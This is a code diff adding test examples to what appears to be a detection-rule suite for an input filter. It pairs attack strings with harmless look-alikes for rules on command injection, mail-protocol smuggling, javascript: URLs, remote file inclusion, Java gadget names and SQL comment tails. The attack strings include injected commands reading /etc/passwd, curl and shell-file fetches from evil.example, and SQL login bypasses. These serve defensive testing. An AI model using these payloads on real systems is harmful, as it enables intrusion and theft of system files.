@@ -68,6 +68,30 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
     attacks: ['1.e(ascii', '1.e.tables', '1.e union select 2'],
     harmless: ['1.5e3', '2.e4', 'see 1.e for more', 'v1.e2e.test'],
   },
+  'sp-rce-separator': {
+    attacks: ['shop.example;cat /etc/hosts', 'x|base32 /etc/hosts', 'a && find / -name x', '; id|'],
+    harmless: ['Shoes | AT&T', 'Bags & More | Shop', ';loggedIn=(not set)', 'pick | find the best; host it'],
+  },
+  'sp-rce-separator-end': {
+    attacks: ['shop.example;ls', 'a|whoami', "x;'id'"],
+    harmless: ['rock & roll', 'coffee | tea', 'first;second\n& more'],
+  },
+  'sp-rce-line-break': {
+    attacks: ['x\ncat /etc/passwd', '\r\ncurl http://evil.example'],
+    harmless: [
+      'Error: failed\n    at <anonymous>\n    at run (app.js:1)',
+      '```sh\nnode -r module app.js\n```',
+      'Set the name\nset `false` or nothing\nin this order.',
+    ],
+  },
+  'sp-rce-mail-protocol': {
+    attacks: ['x\r\nRCPT TO:<a@shop.example>', '\nQUIT', '\r\nA1 LOGIN a b', '\r\nEHLO shop.example'],
+    harmless: [
+      'line one\nline two\nquit\n',
+      'fetching\nw1 fetch done\nw2 list done',
+      'Mail from: home\nwas late',
+    ],
+  },
   'sp-rce-quoted-program': {
     attacks: [';"curl" http://evil.example', "x|'cat' /etc/hosts"],
     harmless: ['say "cat" and "dog"; "find" them', 'a; "id" is a column'],
@@ -75,6 +99,30 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
   'sp-rce-expansion-trick': {
     attacks: ['/usr/bin/[u]name', 'cat /et$$c/passwd', ';cat<<<x'],
     harmless: ['/docs/[slug]/page', 'it costs US$$5', 'a <<< b'],
+  },
+  'sp-java-gadgets-base64': {
+    attacks: [`x.${Buffer.from('org.InvokerTransformer.x').toString('base64')}`],
+    harmless: [Buffer.from('{"runtime":"node","getProperty":1}').toString('base64')],
+  },
+  'sp-java-word-base64': {
+    attacks: [Buffer.from('Runtime').toString('base64'), Buffer.from('x.FileWriter').toString('base64')],
+    harmless: [Buffer.from('{"runtime":"node","sdk":"1.2.3","release":"a"}').toString('base64')],
+  },
+  'sp-xss-script-url': {
+    attacks: ['javascript:alert(1)', 'javascript:void(alert(1))', 'java\tscript:fetch(x)'],
+    harmless: ['javascript:void(0)', 'javascript:void(0);', 'javascript:;', 'javascript:#'],
+  },
+  'sp-rfi': {
+    attacks: ['http://evil.example/shell.txt?', 'http://203.0.113.9/x.php', 'https://evil.example?'],
+    harmless: [
+      'https://shop.example/activity;src=1;type=counter?',
+      'https://shop.example/search?',
+      'https://shop.example/a.php?b=c',
+    ],
+  },
+  'sp-sqli-comment-tail': {
+    attacks: ["admin'--", "x')-- -", "1' #", '1)--', "a'/*"],
+    harmless: ['semver(1) -- The versioner', '```\n-- ---> e1', 'f(x) /* what it does */'],
   },
   'sp-os-file': {
     attacks: [
